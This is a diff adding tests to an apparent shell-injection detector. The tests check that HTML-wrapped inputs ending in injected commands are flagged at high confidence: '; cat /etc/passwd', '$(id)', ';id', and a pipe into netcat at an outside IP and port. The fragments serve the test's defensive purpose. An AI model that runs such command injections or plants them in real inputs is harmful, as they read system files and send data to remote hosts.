@@ -625,3 +625,22 @@ t.test('repeated attribute values are judged once, and a different one after the
   t.equal(detectShellInjection('<a x="1" y="1" '.repeat(3000) + "<a x='1' y='`id`'>")?.confidence, 'high');
   t.equal(detectShellInjection('<b c="ok">'.repeat(3000) + '<b c="ok;id">')?.confidence, 'high');
 });
+
+t.test('HTML read as blanks: many tags (the buffered path) find what few tags do', async (t) => {
+  // Past 64 tags withoutTags collects the text in a code-unit buffer; the text and the verdict are
+  // those of the string path (checked against the build before it).
+  const cases: Array<[string, string, string]> = [
+    ['200 bold words, then a command', '<b>x</b> '.repeat(200) + '; cat /etc/passwd', 'shell.command-chain'],
+    ['500 tags, then a substitution', '<i>a</i>'.repeat(500) + '$(id)', 'shell.substitution'],
+    ['tags around lone surrogates, then a pipe', '<p>\ud800</p>'.repeat(100) + ' | nc 1.2.3.4 4444', 'shell.command-chain'],
+    ['one tag, then a command', '<b>x</b>; cat /etc/passwd', 'shell.command-chain'],
+    ['300 equal attribute values, then one that runs a command', '<a x="1">'.repeat(300) + '<a x=";id">', 'shell.command-chain'],
+  ];
+  for (const [name, value, rule] of cases) {
+    const d = detectShellInjection(value);
+    t.equal(d?.rule, rule, name);
+    t.equal(d?.confidence, 'high', name);
+  }
+  // Hostile sizes return (no timing asserted).
+  for (const unit of ['</a>x', '<a <a ', '<a x="']) t.doesNotThrow(() => detectShellInjection(unit.repeat(200_000)), unit);
+});
